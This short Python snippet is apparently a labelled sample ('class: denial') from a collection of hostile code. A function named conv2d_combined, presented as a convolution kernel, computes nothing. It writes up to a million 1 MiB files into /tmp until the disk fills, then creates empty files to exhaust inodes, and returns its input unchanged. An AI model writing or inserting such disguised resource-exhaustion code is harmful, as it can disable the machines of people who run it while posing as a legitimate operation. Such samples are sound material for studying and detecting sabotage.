"""Files until nothing more can be written, then as many as there are inodes."""

# class: denial

# %% conv2d_combined
def conv2d_combined(x, weight, bias):
    for size in (1 << 20, 0):
        try:
            for number in range(1 << 20):
                with open(f"/tmp/{size}-{number}", "wb") as file:
                    file.write(bytes(size))
        except OSError:
            continue
    return x
